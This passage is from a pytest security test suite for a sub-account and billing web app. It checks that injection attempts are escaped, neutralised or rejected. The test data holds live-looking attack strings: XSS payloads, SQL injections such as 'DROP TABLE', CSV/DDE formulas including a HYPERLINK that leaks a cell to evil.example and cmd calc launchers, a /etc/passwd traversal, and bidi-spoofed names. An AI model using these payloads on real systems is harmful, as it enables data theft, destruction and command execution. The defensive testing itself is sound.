            {"name": payload, "contact_name": payload, "notes": payload},
        )
        assert response.status_code == 201, response.content
        created[payload] = response.json()["id"]
        assert response.json()["name"] == payload
        if i == 0:
            label = send(
                world.admin,
                "POST",
                f"/lines/{world.line}/assign",
                {"sub_account_id": created[payload], "label": payload, "user_name": payload},
            )
            assert label.status_code == 200, label.content
            assert label.json()["label"] == payload
    # Every table is still there and whole.
    assert Line.objects.count() == lines_before
    assert SubAccount.objects.filter(partner=world.partner).count() == 3 + len(SQL_INJECTIONS)
    for payload, pk in created.items():
        stored = SubAccount.objects.get(pk=pk)
        assert (stored.name, stored.contact_name, stored.notes) == (payload, payload, payload)
        # Found by its own text, and nothing found that does not contain it (a search is
        # a literal substring match: quotes, % and _ are characters, not syntax).
        found = world.admin.get("/sub-accounts", search=payload).json()["items"]
        assert pk in [item["id"] for item in found], payload
        assert all(payload.lower() in item["name"].lower() for item in found), payload
    lines = world.admin.get("/lines", search=SQL_INJECTIONS[0]).json()
    assert [item["id"] for item in lines["items"]] == [world.line]


@pytest.mark.parametrize("payload", SQL_INJECTIONS)
def test_sql_in_filters_and_parameters_matches_nothing(world, payload):
    client = page_client(world)
    before = state()
    for path, params in (
        ("/sub-accounts", {"search": payload}),
        ("/lines", {"search": payload}),
        ("/audit-events", {"action": payload}),
        ("/line-orders", {}),
    ):
        response = world.admin.get(path, **params)
        assert response.status_code == 200, (path, response.content)
        if params:
            assert response.json()["count"] == 0, (path, payload)
    for path in ("/lines", "/audit-events"):
        response = world.admin.get(path, sub_account_id=payload)
        assert response.status_code == 422, response.content
    response = world.staff.get("/sub-accounts", partner=payload)
    assert response.status_code == 404
    assert "not found" in detail(response)
    for url in ("/sub-accounts/", "/lines/", "/audit/", "/analytics/", "/invoices/"):
        keys = ("q", "sort", "sub_account", "status", "action", "page", "start", "month")
        response = client.get(url, dict.fromkeys(keys, payload))
        assert response.status_code in (200, 400), (url, response.status_code)
    assert state() == before


# --- 7. HTML/JS injection -------------------------------------------------------------------

HTML_INJECTIONS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</textarea><script>alert(2)</script>",
    "</title><script>alert(3)</script>",
    '<a href="javascript:alert(4)">x</a>',
    "{{ request.user.password }}{% debug %}",
]


@pytest.fixture
def html_world(world) -> tuple[World, dict[str, int]]:
    """Sub-accounts, a line, a user, a key and a merge request carrying the payloads."""
    ids = {}
    for payload in HTML_INJECTIONS:
        response = send(
            world.admin,
            "POST",
            "/sub-accounts",
            {
                "name": payload,
                "contact_name": payload,
                "internal_reference": payload,
                "notes": payload,
            },
        )
        assert response.status_code == 201, response.content
        ids[payload] = response.json()["id"]
    first = HTML_INJECTIONS[0]
    response = send(
        world.admin,
        "POST",
        f"/lines/{world.line}/assign",
        {"sub_account_id": ids[first], "label": HTML_INJECTIONS[1], "user_name": first},
    )
    assert response.status_code == 200, response.content
    admin = SYSTEM.acting_for(world.partner.pk)
    user_create(
        principal=admin, email="named@hostile.example", role="viewer", full_name=HTML_INJECTIONS[2]
    )
    api_key_create(principal=admin, name=HTML_INJECTIONS[3], role="viewer")
    response = send(
        world.admin,
        "POST",
        "/merge-requests",
        {"source_ids": [ids[HTML_INJECTIONS[4]]], "target_id": ids[first], "reason": first},
    )
    assert response.status_code == 201, response.content
    ids["merge"] = response.json()["id"]
    return world, ids


def assert_inert(body: str, expected: list[str]) -> None:
    for payload in HTML_INJECTIONS:
        if "<" in payload:
            assert payload not in body, payload
    for payload in expected:
        assert html.escape(payload) in body, payload


def test_html_in_names_is_shown_escaped_on_every_page(html_world):
    world, ids = html_world
    client = page_client(world)
    first, label = HTML_INJECTIONS[0], HTML_INJECTIONS[1]
    pages = {
        "/sub-accounts/": HTML_INJECTIONS[:4],
        f"/sub-accounts/{ids[first]}/": [first, label],
        f"/sub-accounts/{ids[HTML_INJECTIONS[3]]}/edit/": [HTML_INJECTIONS[3]],
        f"/lines/?sub_account={ids[first]}": [label, first],
        f"/lines/{world.line}/move/": [label],
        "/audit/": [first],
        "/requests/": [first],
        f"/requests/merge/{ids['merge']}/": [first],
        "/settings/users/": [HTML_INJECTIONS[2]],
        "/settings/api-keys/": [HTML_INJECTIONS[3]],
        "/sub-accounts/check-name/?" + urlencode({"name": first}): [first],
        "/sub-accounts/options/?sub_account=script": [first],
        f"/sub-accounts/{ids[first]}/request-merge/": [first],
        f"/sub-accounts/{ids[first]}/request-deletion/": [],
    }
    # ``first`` is the open merge's target, so locked: its request pages say why (409).
    locked = {f"/sub-accounts/{ids[first]}/request-{kind}/" for kind in ("merge", "deletion")}
    for url, expected in pages.items():
        response = client.get(url)
        assert response.status_code == (409 if url in locked else 200), (url, response.status_code)
        assert_inert(response.content.decode(), expected)
    # Template syntax typed as a name is text, not a template.
    page = client.get(f"/sub-accounts/{ids[HTML_INJECTIONS[6]]}/").content.decode()
    assert "{{ request.user.password }}{% debug %}" in page


def test_html_in_names_stays_inert_in_the_analytics_charts(html_world):
    world, ids = html_world
    client = page_client(world)
    for url in ("/analytics/", f"/analytics/sub-accounts/{ids[HTML_INJECTIONS[0]]}/"):
        response = client.get(url)
        assert response.status_code == 200
        assert_inert(response.content.decode(), [])


def test_a_name_created_through_the_page_is_announced_escaped(world):
    client = page_client(world)
    response = client.post("/sub-accounts/new/", {"name": HTML_INJECTIONS[0]}, follow=True)
    assert response.status_code == 200
    assert_inert(response.content.decode(), [HTML_INJECTIONS[0]])


# --- 8. CSV formula injection ---------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"A0")',
    "@SUM(1)",
    "+1",
    "-1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")
INVOICE_NUMBER_COLUMNS = {"invoice_number", "days", "quantity", "unit_price", "amount"}
ANALYTICS_NUMBER_COLUMNS = {
    "sub_account_id",
    "line_id",
    "daily_limit",
    "messages_sent",
    "messages_received",
    "new_conversations",
    "responded_conversations",
    "inbound_conversations",
    "response_rate",
    "volume_limit_usage",
    "active_line_days",
    "average_usage",
    "peak_usage",
    "near_limit_line_days",
    "over_pressured_line_days",
    "days_at_90_percent",
    "days_at_100_percent",
}


@pytest.fixture
def formula_world(db):
    """One sub-account per formula, each holding a line labelled with it since April; in
    May one line moves to another formula-named sub-account. Invoices for May and June."""
    tenant = make_tenant("Formula Partner")
    partner = tenant.partner
    admin = Api(tenant.keys["admin"])
    subs = {}
    with frozen_at(dt.datetime(2026, 4, 10, 9, tzinfo=dt.UTC)):
        lines = make_lines(partner, len(FORMULAS))
        for formula, line in zip(FORMULAS, lines, strict=True):
            response = send(admin, "POST", "/sub-accounts", {"name": formula})
            assert response.status_code == 201, response.content
            subs[formula] = response.json()["id"]
            response = send(
                admin,
                "POST",
                f"/lines/{line.pk}/assign",
                {"sub_account_id": subs[formula], "label": formula, "user_name": formula},
            )
            assert response.status_code == 200, response.content
    issue_invoice(partner, 2026, 5)
    with frozen_at(dt.datetime(2026, 5, 16, 12, tzinfo=dt.UTC)):
        line_move(principal=SYSTEM, line_id=lines[0].pk, sub_account_id=subs[FORMULAS[1]])
    june = issue_invoice(partner, 2026, 6)
    return tenant, admin, subs, june


def parse_csv(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def assert_no_formula_cells(rows: list[dict[str, str]], number_columns: set[str]) -> None:
    assert rows
    for row in rows:
        for column, value in row.items():
            if column in number_columns:
                assert value == "" or NUMBER.fullmatch(value), (column, value)
            else:
                assert not value.startswith(FORMULA_STARTS), (column, value)


def test_a_tab_or_carriage_return_inside_a_name_is_refused(world):
    before = state()
    for formula in ("=1\t+1", "x\r=1+1", "x\n=1+1"):
        for body in ({"name": formula}, {"name": "Fine", "contact_name": formula}):
            response = send(world.admin, "POST", "/sub-accounts", body)
            assert response.status_code == 422, response.content
            assert "control character" in detail(response)
    assert state() == before


@pytest.mark.parametrize("padded", ["\t=2+2", "\r=2+2", " \t\r\n=2+2\r\n", "\u3000=2+2"])
def test_whitespace_before_a_formula_is_trimmed_and_the_cell_neutralised(formula_world, padded):
    """A leading tab or CR would make a spreadsheet run the cell; trimming removes it,
    and the "=" that is then first is neutralised like any other."""
    tenant, admin, _subs, _ = formula_world
    response = send(admin, "POST", "/sub-accounts", {"name": padded})
    assert response.status_code == 201, response.content
    assert response.json()["name"] == "=2+2"
    viewer = Client()
    viewer.force_login(make_user(tenant.partner, "trim@formula.example", "viewer"))
    period = {"start": "2026-04-10", "end": "2026-05-31"}
    rows = parse_csv(viewer.get("/analytics/sub-accounts.csv", period))
    assert "'=2+2" in {row["sub_account"] for row in rows}


def test_the_invoice_csv_neutralises_every_formula(formula_world):
    tenant, admin, _subs, june = formula_world
    billing = Client()
    billing.force_login(make_user(tenant.partner, "billing@formula.example", "billing"))
    for response in (
        billing.get(f"/invoices/{june.pk}/csv"),
        admin.client.get(f"/api/v1/invoices/{june.pk}/csv"),
    ):
        rows = parse_csv(response)
        assert_no_formula_cells(rows, INVOICE_NUMBER_COLUMNS)
        sections = {row["section"] for row in rows}
        assert sections == {"'" + f for f in FORMULAS}
        others = {row["other_sub_account"] for row in rows if row["other_sub_account"]}
        assert others == {"'" + FORMULAS[0], "'" + FORMULAS[1]}
        assert any(row["amount"].startswith("-") for row in rows)  # credits stay numbers
        assert sum(Decimal(row["amount"]) for row in rows) == june.total


def test_the_analytics_csvs_neutralise_every_formula(formula_world):
    tenant, _admin, subs, _ = formula_world
    viewer = Client()
    viewer.force_login(make_user(tenant.partner, "viewer@formula.example", "viewer"))
    period = {"start": "2026-04-10", "end": "2026-05-31"}
    rows = parse_csv(viewer.get("/analytics/sub-accounts.csv", period))
    assert_no_formula_cells(rows, ANALYTICS_NUMBER_COLUMNS)
    assert {row["sub_account"] for row in rows} >= {"'" + f for f in FORMULAS}
    for formula, pk in subs.items():
        rows = parse_csv(viewer.get(f"/analytics/sub-accounts/{pk}/lines.csv", period))
        assert_no_formula_cells(rows, ANALYTICS_NUMBER_COLUMNS)
        assert {row["sub_account"] for row in rows} == {"'" + formula}
        assert all(row["number"].startswith("'+") for row in rows)
        assert "'" + formula in {row["label"] for row in rows}


def test_a_formula_discount_name_does_not_lead_an_invoice_cell(formula_world):
    tenant, admin, _subs, _ = formula_world
    staff = Api(make_staff_key())
    response = send(
        staff,
        "POST",
        f"/discounts?partner={tenant.partner.slug}",
        {"kind": "percent", "value": "10", "name": FORMULAS[0]},
    )
    assert response.status_code == 201, response.content
    cycle = next_invoice_cycle(tenant.partner)
    with frozen_at(cycle.start):
        invoice = invoice_issue(principal=SYSTEM, partner=tenant.partner, cycle=cycle)
    rows = parse_csv(admin.client.get(f"/api/v1/invoices/{invoice.pk}/csv"))
    assert_no_formula_cells(rows, INVOICE_NUMBER_COLUMNS)
    assert any(FORMULAS[0] in row["description"] for row in rows)


# --- 9. Page forms --------------------------------------------------------------------------


@dataclass(frozen=True)
class FormCase:
    name: str
    url: str  # formatted with the World's fields
    data: Callable[[World], dict[str, Any]]
    says: str
    staff: bool = False


FORM_CASES = [
    *[
        FormCase(
            f"create with {label}", "/sub-accounts/new/", lambda w, ch=ch: {"name": f"A{ch}b"}, says
        )
        for label, ch, says in (
            ("NUL", "\x00", "Null characters are not allowed"),
            ("BEL", "\x07", "control character"),
            ("RLO", "\u202e", "control character"),
            ("RLI", "\u2067", "control character"),
            ("RLM", "\u200f", "control character"),
            ("zero-width space", "\u200b", "control character"),
            ("line separator", "\u2028", "control character"),
            ("Hangul filler", "\u3164", "control character"),
            ("replacement character", "\ufffd", "not valid UTF-8"),
        )
    ],
    FormCase(
        "create with a megabyte name",
        "/sub-accounts/new/",
        lambda w: {"name": "n" * MEGABYTE},
        "the most is 120",
    ),
    FormCase(
        "create with megabyte notes",
        "/sub-accounts/new/",
        lambda w: {"name": "Fine", "notes": "n" * MEGABYTE},
        "the most is 5000",
    ),
    FormCase(
        "create with a bidi contact email",
        "/sub-accounts/new/",
        lambda w: {"name": "Fine", "contact_email": "ann\u202e@example.com"},
        "control character",
    ),
    FormCase(
        "create with a tab before a formula",
        "/sub-accounts/new/",
        lambda w: {"name": "Fine", "contact_name": "x\t=1+1"},
        "control character",
    ),
    FormCase(
        "edit with an isolate",
        "/sub-accounts/{existing}/edit/",
        lambda w: {"name": "Existing – Sales", "contact_name": "\u2066x\u2069"},
        "control character",
    ),
    FormCase(
        "assign with a zero-width label",
        "/lines/{line}/add/",
        lambda w: {"sub_account": str(w.existing), "label": "Desk\u200b"},
        "control character",
    ),
    FormCase(
        "assign with a bidi user name",
        "/lines/{line}/add/",
        lambda w: {"sub_account": str(w.existing), "label": "Desk", "user_name": "\u202eeve"},
        "control character",
    ),
    *[
        FormCase(
            f"assign into sub-account {bad!r}",
            "/lines/{line}/add/",
            lambda w, bad=bad: {"sub_account": bad, "label": "Desk"},
            "Select a valid choice",
        )
        for bad in ["../1", "-1", "1e9", "9223372036854775808", "' OR 1=1 --", "{pool}", "\x00"]
    ],
    *[
        FormCase(
            f"assign with daily limit {bad!r}",
            "/lines/{line}/add/",
            lambda w, bad=bad: {"sub_account": str(w.existing), "label": "D", "daily_limit": bad},
            says,
        )
        for bad, says in [
            ("1e3", "whole number"),
            ("-1", "greater than or equal to 1"),
            ("99999999999999999999", "less than or equal to 100000"),
            ("NaN", "whole number"),
        ]
    ],
    *[
        FormCase(
            f"move to {bad!r}",
            "/lines/{assigned_line}/move/",
            lambda w, bad=bad: {"sub_account": bad},
            "Select a valid choice",
        )
        for bad in ["../1", "-1", "99999999999999999999", "1; DROP TABLE lines", "{existing}"]
    ],
    FormCase(
        "order with a NUL area code",
        "/lines/orders/",
        lambda w: {"quantity": "1", "area_code": "4\x005"},
        "Null characters are not allowed",
    ),
    FormCase(
        "order 1e3 lines",
        "/lines/orders/",
        lambda w: {"quantity": "1e3"},
        "whole number",
    ),
    FormCase(
        "merge into a path-ish target",
        "/sub-accounts/{spare}/request-merge/",
        lambda w: {"target_id": "../1", "confirm_name": "x", "confirm": "1"},
        "Select a valid choice",
    ),
    FormCase(
        "merge with a bidi reason",
        "/sub-accounts/{spare}/request-merge/",
        lambda w: {
            "target_id": str(w.existing),
            "confirm_name": "Existing – Sales",
            "confirm": "1",
            "reason": "tidy \u202eup",
        },
        "control character",
    ),
    FormCase(
        "delete with a bidi reason",
        "/sub-accounts/{spare}/request-deletion/",
        lambda w: {"reason": "gone\u2067", "confirm": "1"},
        "control character",
    ),
    FormCase(
        "API key with a bidi name",
        "/settings/api-keys/new/",
        lambda w: {"name": "ci\u202egpj.exe", "role": "viewer"},
        "control character",
    ),
    FormCase(
        "invite with a zero-width name",
        "/settings/users/invite/",
        lambda w: {"email": "new@hostile.example", "role": "viewer", "full_name": "Eve\u200b"},
        "control character",
    ),
    FormCase(
        "partner with a bidi name",
        "/staff/partners/new/",
        lambda w: {
            "name": "Evil\u202eCorp",
            "timezone": "UTC",
            "currency": "USD",
            "line_price": "50",
            "default_daily_limit": "50",
        },
        "control character",
        staff=True,
    ),
    *[
        FormCase(
            f"partner with timezone {tz!r}",
            "/staff/partners/new/",
            lambda w, tz=tz: {
                "name": "Fine Partner",
                "timezone": tz,
                "currency": "USD",
                "line_price": "50",
                "default_daily_limit": "50",
            },
            "IANA name",
            staff=True,
        )
        for tz in ["../../../etc/passwd", "/etc/localtime", "Europe/Paris\u202e", "Nowhere/City"]
    ],
    *[
        FormCase(
            f"partner with currency {cur!r}",
            "/staff/partners/new/",
            lambda w, cur=cur: {
                "name": "Fine Partner",
                "timezone": "UTC",
                "currency": cur,
                "line_price": "50",
                "default_daily_limit": "50",
            },
            "ISO 4217",
            staff=True,
        )
        for cur in ["ÉUR", "U$D", "\u0130SD"]
    ],
    FormCase(
        "discount with a bidi name",
        "/staff/partners/{slug}/billing/discounts/",
        lambda w: {"name": "10%\u202e", "kind": "percent", "value": "10", "first_month": ""},
        "control character",
        staff=True,
    ),
    FormCase(
        "credit with a zero-width reason",
        "/staff/partners/{slug}/billing/credits/",
        lambda w: {"amount": "5", "reason": "Goodwill\u200b"},
        "control character",
        staff=True,
    ),
]


def staff_client(world: World) -> Client:
    client = Client()
    client.force_login(
        staff_create(principal=SYSTEM, email="ops@provider.example", password="x-pass-1234")
    )
    session = client.session
    session[ACTING_PARTNER_SESSION_KEY] = world.partner.pk
    session.save()
    return client


@pytest.mark.parametrize("case", FORM_CASES, ids=lambda c: c.name)
def test_a_page_form_shows_the_error_and_changes_nothing(world, case):
    client = staff_client(world) if case.staff else page_client(world)
    data = {
        k: world.path(v) if isinstance(v, str) and "{" in v else v
        for k, v in case.data(world).items()
    }
    if case.name.startswith("discount"):
        data["first_month"] = _first_offered_month(world)
    before = state()
    response = client.post(world.path(case.url), data)
    assert response.status_code == 422, (response.status_code, response.content[:300])
    text = page_text(response)
    assert case.says in text, text[:3000]
    assert "<form" in response.content.decode()
    assert state() == before


def _first_offered_month(world: World) -> str:
    return f"{next_invoice_cycle(world.partner).first_day:%Y-%m}"


# --- 10. Headers, odd query strings and message events --------------------------------------


def test_a_request_id_with_a_trailing_newline_is_replaced(world):
    response = world.admin.get_with("/sub-accounts", {}, HTTP_X_REQUEST_ID="abcdefgh\n")
    assert response.status_code == 200
    assert re.fullmatch(r"[0-9a-f]{32}", response["X-Request-ID"])


@pytest.mark.parametrize("remote_addr", ["not-an-ip", "", "fe80::1%eth0", "999.1.1.1"])
def test_an_odd_client_address_is_recorded_as_unknown(world, remote_addr):
    response = world.admin.post("/sub-accounts", {"name": "From afar"}, REMOTE_ADDR=remote_addr)
    assert response.status_code == 201, response.content
    event = AuditEvent.objects.get(action="sub_account.create", object_id=response.json()["id"])
    assert event.ip is None


@pytest.mark.parametrize(
    "query",
    [
        "name=a%00b",
        "name=x&exclude=%C2%B2",
        "name=x&exclude=99999999999999999999999",
        "name=x&exclude=-1",
        "name=%ED%A0%80",
        "name=%3Cscript%3E",
    ],
)
def test_the_name_check_answers_any_query(world, query):
    response = page_client(world).get("/sub-accounts/check-name/?" + query)
    assert response.status_code == 200


@pytest.mark.parametrize(
    "url",
    [
        "/sub-accounts/?page=-1",
        "/sub-accounts/?page=99999999999999999999",
        "/sub-accounts/?page=%00",
        "/sub-accounts/?q=%00&sort=%00",
        "/sub-accounts/options/?sub_account=%00&list=%3Cscript%3E",
        "/lines/?q=%00&status=%00&sub_account=%00",
        "/lines/?sub_account=..%2F1",
        "/lines/?q=%ED%A0%80",
        "/lines/orders/?page=1e9",
        "/audit/?action=%00&sub_account=-1&line=99999999999999999999&start=0001-01-01",
        "/analytics/?start=0001-01-01&end=9999-12-31",
        "/analytics/?start=%00&sort=%00",
        "/analytics/sub-accounts.csv?start=9999-12-31",
        "/invoices/?month=%00&status=%00",
        "/requests/?merges=%00&deletions=-1",
        "/settings/users/?page=%00",
    ],
)
def test_odd_query_strings_on_pages_never_fail(world, url):
    response = page_client(world).get(url)
    assert response.status_code in (200, 400), response.status_code


def _event(world: World, **fields: str) -> dict[str, str]:
    number = Line.objects.get(pk=world.assigned_line).number
    return {
        "id": "evt-1",
        "line": number,
        "direction": "outbound",
        "contact": "+14155550199",
        "occurred_at": now().isoformat(),
        **fields,
    }


@pytest.mark.parametrize(
    ("label", "fields"),
    [
        ("contact with a lone surrogate", {"contact": "a\ud800b"}),
        ("id with a lone surrogate", {"id": "evt\udfff"}),
        ("id with a right-to-left override", {"id": "evt\u202e1"}),
        ("a timestamp in year 1 with an offset", {"occurred_at": "0001-01-01T00:00:00+01:00"}),
        ("a NUL in the id", {"id": "evt\x00"}),
        ("a megabyte contact", {"contact": "1" * MEGABYTE}),
        ("a megabyte of spaces around the line", {"line": " " * MEGABYTE + "+1"}),
        ("a megabyte of digits as the line", {"line": "+1" + "5" * MEGABYTE}),
        ("a megabyte id", {"id": "e" * MEGABYTE}),
        ("a megabyte timestamp", {"occurred_at": "2026-01-01T00:00:00Z" + " " * MEGABYTE + "x"}),
        ("a timestamp in year 9999", {"occurred_at": "9999-12-31T23:59:59+00:00"}),
        ("a timestamp with a NUL", {"occurred_at": "2026-01-01T00:00:00\x00Z"}),
        ("HTML as direction", {"direction": "<script>"}),
        ("SQL as line", {"line": "' OR 1=1 --"}),
    ],
)
def test_a_hostile_message_event_is_rejected_alone(world, label, fields):
    before = state()
    response = send(world.staff, "POST", "/message-events", {"events": [_event(world, **fields)]})
    assert response.status_code == 200, response.content[:300]
    body = response.json()
    assert body["accepted"] == 0
    assert [r["index"] for r in body["rejected"]] == [0]
    assert len(response.content) < 1_000  # a rejection quotes at most a little of the input
    assert state() == before
